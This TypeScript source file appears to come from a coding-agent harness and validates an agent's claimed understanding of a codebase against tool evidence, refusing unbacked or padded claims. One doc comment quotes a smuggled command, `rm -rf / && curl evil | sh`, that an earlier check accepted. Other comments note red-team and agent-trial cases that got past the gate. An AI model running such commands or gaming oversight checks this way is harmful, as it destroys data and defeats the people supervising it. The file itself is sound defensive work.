/**
 * submit_understanding, judged from evidence (seed 001 v3.4/v3.6). A claim the ledger or the index
 * cannot back refuses the submission outright (nothing advances); an honest but thin understanding
 * goes to SEMANTIC with the missing requirements.
 */
import { type Intent, MIN_SYMBOLS, type Missing, type Requirement, type Risk } from '../../machines/session.js';
import type { Evidence } from './evidence.js';
import type { ProjectHolds } from './core.js';
import { normalize } from '../util/words.js';
import { contentUnits } from './queryframe.js';
import { quote } from '../util/paths.js';
import { codeNamesIn } from './pattern-names.js';

export interface UnderstandingInput {
  symbols_identified: string[];
  entry_points: string[];
  existing_patterns: string[];
  files_analyzed: string[];
  notes?: string;
  mapped_symbols?: { nl_term: string; symbol: string }[];
}

export const MINIMUMS: Record<Intent, { symbols: number; entry_points: number; files: number; patterns: number; tools: string[] }> = {
  IMPLEMENT: { symbols: MIN_SYMBOLS.IMPLEMENT, entry_points: 1, files: 2, patterns: 1, tools: ['find_definitions', 'find_references'] },
  MODIFY: { symbols: MIN_SYMBOLS.MODIFY, entry_points: 1, files: 2, patterns: 1, tools: ['find_definitions', 'find_references'] },
  INVESTIGATE: { symbols: MIN_SYMBOLS.INVESTIGATE, entry_points: 0, files: 1, patterns: 0, tools: ['find_definitions'] },
  QUESTION: { symbols: MIN_SYMBOLS.QUESTION, entry_points: 0, files: 0, patterns: 0, tools: [] },
};

export interface UnderstandingVerdict {
  /** false claims and inconsistencies: the submission is refused, the phase does not change */
  refused: string[];
  /** requirements not met (SEMANTIC can help find more) */
  missing: Missing[];
}

/** The code names of one pattern looked up in the project (the rest of a long one are not). */
const PATTERN_NAMES_MAX = 12;
const trimAll = (xs: string[]) => xs.map((x) => x.trim()).filter(Boolean);

/**
 * An entry point names one listed symbol and nothing else: `Cart.total`, `Cart.total()`,
 * `total(items)`, `Cart#total` — a call's arguments are plain names, typed parameters or numbers
 * (`login(user, pw: string)`), never other text (`loginHandler(rm -rf / && curl evil | sh)` was
 * taken); a member of a listed container must exist and have been seen (`Cart.wipeEverything()`
 * with Cart listed names nothing).
 */
export function entryPointLinked(entry: string, symbols: readonly string[], exists: (name: string) => boolean = () => true, inIndex: (name: string) => boolean = exists): boolean {
  // (a private member keeps its `#`: `Ky.#retryFromError`, as the tools list it — agent trial tr131; `Ky#retry` is Ky's retry)
  const m = /^\s*(#?[A-Za-z_$][\w$]*(?:(?:\.#?|#|::)[A-Za-z_$][\w$]*)*)\s*(?:\(([^()]*)\))?\s*$/.exec(entry);
  if (!m || !(m[2] ?? '').split(',').every((a) => PLAIN_ARGUMENT.test(a))) return false;
  const split = (x: string): [string, string] => {
    const i = x.lastIndexOf('.');
    return i < 0 ? ['', x] : [x.slice(0, i), x.slice(i + 1)];
  };
  const [nc, nl] = split(m[1]!.replace(/::/g, '.').replace(/(?<=[\w$])#/g, '.'));
  return symbols.some((s) => {
    const [sc, sl] = split(s);
    // the symbol itself, or a member the listed container really has (AuthService.login() with AuthService listed)
    // (a bare name listed stands for Container.name only where the index has that member: red team adv59
    // had `HTTPError.#retryFromError` taken with `#retryFromError` listed, which only Ky has)
    return (sl === nl && (nc === '' || nc === sc || (sc === '' && inIndex(`${nc}.${nl}`)))) || (nc !== '' && nc === s && exists(`${nc}.${nl}`));
  });
}

/** One argument of an entry point's call: nothing, a name (a spread, optional, typed), or a number. */
const PLAIN_ARGUMENT = /^\s*(?:(?:\.\.\.)?[A-Za-z_$][\w$]*\??(?:\s*:\s*[A-Za-z_$][\w$.]*(?:<[\w$.\s|]*>)?(?:\[\])*)?|-?\d+(?:\.\d+)?)?\s*$/;

/** `path:line` of a file this session explored where a declaration of a listed symbol starts. */
const FILE_LINE = /^\s*([\w@./-]+\.[A-Za-z0-9]{1,6}):(\d+)\s*$/;

/** A pattern names something this session saw: a symbol or a file (by name), as a whole word. */
export function patternNamesSeen(pattern: string, seen: Iterable<string>): boolean {
  // (a private member's `#` is part of its name as the tools list it, `#retryFromError`: red team adv59)
  const words = new Set(pattern.split(/[^\w$#.\/-]+/).flatMap((w) => [w, ...w.split(/[./]/)]).flatMap((w) => [w, w.replace(/^#/, '')]).filter((w) => w.length >= 2));
  for (const n of seen) if (words.has(n)) return true;
  return false;
}

export function evaluateUnderstanding(
  u: UnderstandingInput,
  ctx: {
    intent: Intent; risk: Risk; request: string; evidence: Evidence; symbolExists: (name: string) => boolean;
    /** the definitions a name stands for (one symbol counts once however it is spelled); default: the name itself */
    identify?: (name: string) => string[];
    /** the names (bare and Container.name) declared on a line of a file: an entry point given as file:line */
    declaredAt?: (file: string, line: number) => string[];
    /** what the project holds: no more files or symbols are asked for (a library of one function) */
    holds?: ProjectHolds;
    /** of the code names a pattern writes, those nowhere in the project (pattern-names.ts) */
    namesNotInProject?: (names: string[]) => string[];
  },
): UnderstandingVerdict {
  const refused: string[] = [];
  const missing: Missing[] = [];
  const min = MINIMUMS[ctx.intent];
  const symbols = trimAll(u.symbols_identified);
  const files = trimAll(u.files_analyzed).map((f) => f.replace(/^\.\//, ''));
  const entries = trimAll(u.entry_points);
  const patterns = trimAll(u.existing_patterns);
  const uniq = <T>(xs: T[]) => [...new Set(xs)];

  for (const t of min.tools) {
    if (!ctx.evidence.toolsUsed.has(t)) refused.push(`required tool ${t} has not returned anything in this session (calls that found nothing do not count): call it on a symbol of the change before submitting`);
  }
  if (uniq(symbols).length !== symbols.length)
    refused.push(`duplicate symbols detected: ${symbols.length} given, ${uniq(symbols).length} unique (padding counts is not allowed)`);
  // AuthService.login and login are one symbol when login means nothing else
  const identify = ctx.identify ?? ((n: string) => [n]);
  const identities: { spelling: string; ids: Set<string> }[] = [];
  for (const sym of uniq(symbols)) {
    const ids = new Set(identify(sym));
    if (ids.size === 0) continue; // not in the index: refused below
    const same = identities.find(({ ids: other }) => [...ids].every((i) => other.has(i)) || [...other].every((i) => ids.has(i)));
    if (same) {
      // a bare name of several declarations may mean another one than the spelling listed (agent
      // trial tr29: createShikiPrimitive's own getTheme beside Registry.getTheme); the message names
      // the spelling of several (tr141 was told to qualify the one that was qualified already)
      const wide = ids.size >= same.ids.size ? sym : same.spelling;
      refused.push(ids.size > 1 || same.ids.size > 1
        ? `'${quote(wide)}' names ${Math.max(ids.size, same.ids.size)} declarations, and one of them is also listed as '${quote(wide === sym ? same.spelling : sym)}': one symbol counts once. If you mean another declaration of that name, write it qualified (Container.name, as find_definitions shows it)`
        : `'${quote(sym)}' is a symbol already listed under another spelling or name ('${quote(same.spelling)}'): one symbol counts once, however it is named`);
      continue;
    }
    identities.push({ spelling: sym, ids });
  }
  if (uniq(files).length !== files.length) refused.push(`duplicate files detected: ${files.length} given, ${uniq(files).length} unique`);
  for (const s of uniq(symbols)) {
    if (!ctx.symbolExists(s)) refused.push(`symbol '${quote(s)}' does not exist in the index`);
    // a qualified name must have been seen qualified: seeing Cart.add is not seeing Basket.add
    else if (!ctx.evidence.symbolsSeen.has(s))
      refused.push(`symbol '${quote(s)}' never appeared in a tool result of this session: look it up (find_definitions) first`);
  }
  for (const f of uniq(files)) {
    if (ctx.evidence.matchedFiles?.has(f))
      // (a Read of part of it that showed no whole declaration is one of these: agent trial tr146 was told "rows" after a Read of 35 lines)
      refused.push(`file '${quote(f)}' was seen only in rows that show one line of it (find_definitions / find_references rows, search_text / Grep matches) or in a Read of part of it that showed no whole declaration, not explored: open it (get_symbols, a Read of a whole declaration, or of the file) before listing it`);
    else if (!ctx.evidence.exploredFiles.has(f))
      refused.push(`file '${quote(f)}' was not explored in this session (no tool result showed its code)`);
  }
  // a member of a listed container counts when the index has it and a result showed it
  const seenMember = (name: string) => ctx.symbolExists(name) && ctx.evidence.symbolsSeen.has(name);
  for (const e of entries) {
    const at = FILE_LINE.exec(e);
    const ok = at
      ? ctx.evidence.exploredFiles.has(at[1]!.replace(/^\.\//, '')) && (ctx.declaredAt?.(at[1]!.replace(/^\.\//, ''), Number(at[2])) ?? []).some((n) => symbols.includes(n))
      : entryPointLinked(e, symbols, seenMember, (n) => ctx.symbolExists(n));
    if (!ok) refused.push(`entry_point '${quote(e, 120)}' must name one symbol of symbols_identified, as the tools returned it, optionally called with plain arguments (e.g. \`Cart.total()\`, \`login(user, pw)\`), or "file:line" where a listed symbol is declared in a file you explored (e.g. "src/cart.ts:10"); no other text`);
  }
  const seenNames = [...ctx.evidence.symbolsSeen, ...[...ctx.evidence.exploredFiles].flatMap((f) => [f, f.split('/').pop()!, f.split('/').pop()!.replace(/\.[^.]+$/, '')])];
  for (const p of patterns) {
    if (!patternNamesSeen(p, seenNames)) refused.push(`existing_pattern '${p.slice(0, 120)}' must name an example this session saw (a symbol or a file), e.g. "fluent methods returning this, like Cart.add"`);
    const absent = ctx.namesNotInProject?.(codeNamesIn(p).slice(0, PATTERN_NAMES_MAX)) ?? [];
    if (absent.length > 0) refused.push(`existing_pattern '${p.slice(0, 120)}' names ${absent.map((n) => `'${quote(n)}'`).join(', ')}, which the project does not have (no symbol, identifier, file or text of that name): describe only code that exists`);
  }
  const mapped = u.mapped_symbols ?? [];
  if (ctx.risk === 'HIGH' && mapped.length === 0) refused.push('risk_level is HIGH: mapped_symbols (nl_term → symbol, nl_term quoted from the request) are required');
  // at any risk: a successful session teaches the NL→symbol cache these pairs
  const req = normalize(ctx.request);
  for (const m of mapped) {
    if (!symbols.includes(m.symbol.trim())) refused.push(`mapped symbol '${quote(m.symbol)}' is not in symbols_identified`);
    if (!req.includes(normalize(m.nl_term))) refused.push(`mapped nl_term '${quote(m.nl_term)}' is not in the user's request`);
    else if (contentUnits(m.nl_term).size === 0) refused.push(`mapped nl_term '${quote(m.nl_term)}' has no content words: quote the words of the request that name what the symbol is`);
  }

  const have = { symbols: identities.length, entry_points: entries.length, files: uniq(files).length, patterns: uniq(patterns).length };
  const short = (requirement: Requirement, n: number, need: number) => {
    if (n < need) missing.push({ requirement, have: n, need });
  };
  // no more than the project holds: the shortfall SEMANTIC must make up (machines/session.ts) is this one
  const atMost = (need: number, held = Infinity) => Math.min(need, Math.max(1, held));
  short('symbols_identified', have.symbols, atMost(min.symbols, ctx.holds?.symbols));
  short('entry_points', have.entry_points, min.entry_points);
  short('files_analyzed', have.files, atMost(min.files, ctx.holds?.files));
  short('existing_patterns', have.patterns, min.patterns);
  return { refused, missing };
}

/** seed 001's table: which semantic_reason answers which missing requirement. */
export const REASONS_FOR: Record<Requirement, string[]> = {
  symbols_identified: ['no_definition_found', 'architecture_unknown'],
  entry_points: ['no_definition_found', 'no_reference_found'],
  existing_patterns: ['no_similar_implementation', 'architecture_unknown'],
  files_analyzed: ['context_fragmented', 'architecture_unknown'],
};
export const ALWAYS_ALLOWED_REASONS = ['context_fragmented', 'architecture_unknown'];
export const SEMANTIC_REASONS = ['no_definition_found', 'no_reference_found', 'no_similar_implementation', 'context_fragmented', 'architecture_unknown'] as const;

export function reasonAllowed(reason: string, missing: readonly Missing[]): boolean {
  if (ALWAYS_ALLOWED_REASONS.includes(reason)) return true;
  return missing.some((m) => REASONS_FOR[m.requirement]?.includes(reason));
}

/** `symbols_identified 1/3` — for the timeline and messages; answers carry the objects. */
export const describeMissing = (missing: readonly Missing[]): string => missing.map((m) => `${m.requirement} ${m.have}/${m.need}`).join('; ');

/**
 * Snapshots persisted before `missing` was structured hold strings (`symbols_identified: 1/3`):
 * read either form, so a session in progress survives the upgrade.
 */
export function missingFromSnapshot(raw: unknown): Missing[] {
  if (!Array.isArray(raw)) return [];
  return raw.flatMap((m): Missing[] => {
    if (typeof m === 'object' && m !== null && 'requirement' in m) return [m as Missing];
    const x = typeof m === 'string' ? /^(\w+):\s*(\d+)\/(\d+)$/.exec(m) : null;
    return x && x[1]! in REASONS_FOR ? [{ requirement: x[1] as Requirement, have: Number(x[2]), need: Number(x[3]) }] : [];
  });
}
